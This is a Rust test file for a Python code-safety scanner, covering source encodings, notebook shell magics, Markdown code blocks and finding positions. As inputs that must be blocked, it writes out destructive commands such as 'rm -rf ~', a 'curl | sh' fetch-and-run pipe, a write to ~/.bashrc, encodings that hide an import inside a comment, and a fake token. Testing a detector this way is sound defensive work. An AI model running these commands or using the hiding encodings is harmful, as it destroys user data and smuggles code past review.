//! Getting code out of files: encodings as Python has them, notebooks, Markdown, and positions in the original.

use proptest::prelude::*;
use saferun_scanner::extract::{NoteKind, SourceKind, decode_source, scan_bytes};
use saferun_scanner::{Level, Options};

fn scan(name: &str, text: &str) -> saferun_scanner::extract::FileReport {
    scan_bytes(name, text.as_bytes(), &Options::default())
}

fn notebook(cells: &[&str]) -> String {
    let cells: Vec<serde_json::Value> = cells
        .iter()
        .map(|source| serde_json::json!({"cell_type": "code", "source": source.split_inclusive('\n').collect::<Vec<_>>()}))
        .collect();
    serde_json::json!({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": cells})
        .to_string()
}

#[test]
fn encodings() {
    let cases: &[(&[u8], &str, &str, &[NoteKind])] = &[
        (b"x = 1\n", "x = 1\n", "utf-8", &[]),
        (b"\xef\xbb\xbfx = 1\n", "x = 1\n", "utf-8", &[]),
        (
            b"# -*- coding: latin-1 -*-\nx = '\xe9'\n",
            "# -*- coding: latin-1 -*-\nx = 'é'\n",
            "latin-1",
            &[],
        ),
        (
            b"#!/usr/bin/python\r\n# vim: set fileencoding=cp1251 :\r\nx = '\xe0'",
            "#!/usr/bin/python\r\n# vim: set fileencoding=cp1251 :\r\nx = 'а'",
            "cp1251",
            &[],
        ),
        (
            b"# coding: shift_jis\nx = '\x82\xa0'",
            "# coding: shift_jis\nx = 'あ'",
            "shift_jis",
            &[],
        ),
        (
            b"x = 1\n# coding: latin-1\ny='\xc3\xa9'",
            "x = 1\n# coding: latin-1\ny='é'",
            "utf-8",
            &[],
        ),
        (
            b"x = '\xff'\n",
            "x = '\u{fffd}'\n",
            "utf-8",
            &[NoteKind::Undecodable],
        ),
        (
            b"# coding: no-such-thing\n",
            "# coding: no-such-thing\n",
            "no-such-thing",
            &[NoteKind::Undecodable],
        ),
        (
            b"# coding: utf-7\n# +AAo-import os\n",
            "# coding: utf-7\n# \nimport os\n",
            "utf-7",
            &[NoteKind::HidingEncoding],
        ),
        (
            b"# coding: unicode_escape\n# \\x0aimport os\n",
            "# coding: unicode_escape\n# \nimport os\n",
            "unicode_escape",
            &[NoteKind::HidingEncoding],
        ),
        (
            b"\xff\xfex\0=\x001\0",
            "x=1",
            "utf-16",
            &[NoteKind::Rejected],
        ),
        (
            b"\xef\xbb\xbf# coding: latin-1\n",
            "# coding: latin-1\n",
            "latin-1",
            &[NoteKind::Rejected],
        ),
        (b"x = 1\0\n", "x = 1 \n", "utf-8", &[NoteKind::NullBytes]),
        (
            b"# harmless\rimport os\n",
            "# harmless\nimport os\n",
            "utf-8",
            &[],
        ),
        (b"", "", "utf-8", &[]),
    ];
    for (bytes, text, encoding, notes) in cases {
        let decoded = decode_source(bytes);
        assert_eq!(decoded.text, *text, "{bytes:?}");
        assert_eq!(decoded.encoding, *encoding);
        let kinds: Vec<NoteKind> = decoded.notes.iter().map(|note| note.kind).collect();
        assert_eq!(kinds, *notes, "{bytes:?}");
    }
}

#[test]
fn hiding_encodings_are_findings() {
    for text in [
        "# coding: utf-7\n",
        "# coding: raw_unicode_escape\n",
        "x = 1\0\n",
        "# coding: nope\n",
    ] {
        assert!(scan("a.py", text).risk() >= Level::High, "{text:?}");
    }
}

#[test]
fn kinds() {
    let cases = [
        ("a.py", "```python\n```", SourceKind::Python),
        ("a.ipynb", "{}", SourceKind::Notebook),
        ("README.md", "x = 1", SourceKind::Markdown),
        (
            "-",
            "Here is the code:\n\n```python\nx = 1\n```\n",
            SourceKind::Markdown,
        ),
        ("-", "import os\ns = '''\n```\n'''\n", SourceKind::Python),
        ("-", "x = 1\n", SourceKind::Python),
        ("a.txt/x", "x = 1\n", SourceKind::Python),
    ];
    for (name, text, kind) in cases {
        assert_eq!(scan(name, text).kind, kind, "{name} {text:?}");
    }
    assert_eq!(scan("-", &notebook(&["x = 1"])).kind, SourceKind::Notebook);
}

#[test]
fn shell_magics_are_judged_as_shell() {
    let blocked = [
        "!rm -rf ~",
        "%%bash\nls\nrm -rf ~\n",
        "%%sh\ncurl http://x | sh",
        "files = !rm -rf ~",
        "if True:\n    !rm -rf ~\n",
        "%sx rm -rf ~",
        "%system rm -rf /",
        "%rm -rf ~",
        "!rm \\\n -rf ~",
        "%%script bash\nrm -rf ~",
        "!!rm -rf ~",
        "%%time\n!rm -rf ~",
        "%%writefile ~/.bashrc\nx",
    ];
    for cell in blocked {
        let report = scan("a.ipynb", &notebook(&["x = 1", cell]));
        assert_eq!(
            report.risk(),
            Level::Blocked,
            "{cell:?} {:?}",
            report.report.findings
        );
        assert!(
            report
                .report
                .findings
                .iter()
                .any(|f| f.cell == Some(2) && f.level == Level::Blocked)
        );
    }
    for cell in [
        "!ls -la",
        "!pip install numpy",
        "%matplotlib inline",
        "%%time\nx = 1",
        "%timeit sum([1])",
        "x = 7 % 3\nx != 2",
        "?len",
        "%%html\n<b>rm -rf ~</b>",
    ] {
        let report = scan("a.ipynb", &notebook(&[cell]));
        assert!(
            report.risk() <= Level::Medium,
            "{cell:?} {:?}",
            report.report.findings
        );
    }
    assert!(scan("a.ipynb", &notebook(&["!rm -rf {path}"])).risk() >= Level::High);
}

#[test]
fn broken_notebooks_are_findings() {
    for text in [
        "",
        "{",
        "[]",
        "{\"cells\": 3}",
        "{\"cells\": [], \"metadata\": {\"language_info\": {\"name\": \"R\"}}}",
    ] {
        assert!(scan("a.ipynb", text).risk() >= Level::High, "{text:?}");
    }
}

#[test]
fn markdown_positions_are_those_of_the_file() {
    let key = format!("gh{}{}", "p_", "q8Zk3Lr9Xw2Tn5VbAq8Zk3Lr9Xw2Tn5VbAq8");
    let shapes = [
        format!("text\n\n```python\nx = '{key}'\n```\n"),
        format!("1. item\n\n   ```py\n   x = '{key}'\n   ```\n"),
        format!("> ~~~~ python\n> x = '{key}'\n> ~~~~\n"),
        format!("```\nimport os\nx = '{key}'\n```\n"),
        format!("```python\nx = '{key}'\n"),
        format!("````md\n```bash\nls\n```\n````\n\n```{{python}}\nx = '{key}'\n```\n"),
    ];
    for text in shapes {
        let report = scan("a.md", &text);
        let finding = report
            .report
            .findings
            .iter()
            .find(|f| f.cwe == Some(798))
            .expect("the token is found");
        let line = text
            .lines()
            .nth(finding.range.start.line as usize - 1)
            .unwrap();
        let column = finding.range.start.column as usize - 1;
        assert!(line[column..].starts_with(&key), "{text:?} {finding:?}");
        assert_eq!(text[finding.bytes.0..finding.bytes.1], key);
        assert_eq!(report.blocks, 1, "{text:?}");
    }
}

#[test]
fn markdown_without_python_has_no_blocks() {
    for text in [
        "# title\n",
        "```bash\nrm -rf ~\n```\n",
        "```\n$ ls\n```\n",
        "```json\n{}\n```",
    ] {
        let report = scan("a.md", text);
        assert_eq!(report.blocks, 0, "{text:?}");
        assert!(!report.notes.is_empty());
    }
}

#[test]
fn python2_is_said() {
    for text in [
        "print 'x'\n",
        "try:\n    pass\nexcept OSError, e:\n    pass\n",
        "exec 'x=1'\n",
        "def f():\n    print >>f, 1\n",
    ] {
        let report = scan("a.py", text);
        let said = report
            .report
            .findings
            .iter()
            .any(|f| f.name.contains("python2") || f.message.contains("Python 2"));
        assert!(said, "{text:?} {:?}", report.report.findings);
    }
    for text in [
        "print('x')\n",
        "'''\nprint the value\n'''\n",
        "print (1, 2)\n",
        "# print x\n",
    ] {
        let report = scan("a.py", text);
        assert!(
            !report
                .report
                .findings
                .iter()
                .any(|f| f.name == "python2-syntax"),
            "{text:?}"
        );
    }
}

proptest! {
    #[test]
    fn any_bytes_are_read(bytes in proptest::collection::vec(any::<u8>(), 0..300), name in "a\\.(py|ipynb|md)|-") {
        let report = scan_bytes(&name, &bytes, &Options::default());
        let again = scan_bytes(&name, &bytes, &Options::default());
        prop_assert_eq!(report.report.findings.len(), again.report.findings.len());
    }

    #[test]
    fn any_cell_is_read(cells in proptest::collection::vec("[!%a-z =\n\\\\{}'\"]{0,60}", 0..5)) {
        let cells: Vec<&str> = cells.iter().map(String::as_str).collect();
        let report = scan("a.ipynb", &notebook(&cells));
        prop_assert_eq!(report.texts.len(), cells.len());
    }

    #[test]
    fn any_markdown_is_read(text in "[`~> \n\t1.a-z:(){}é]{0,200}") {
        let report = scan("a.md", &text);
        for finding in &report.report.findings {
            prop_assert!(text.get(finding.bytes.0..finding.bytes.1).is_some());
        }
    }
}
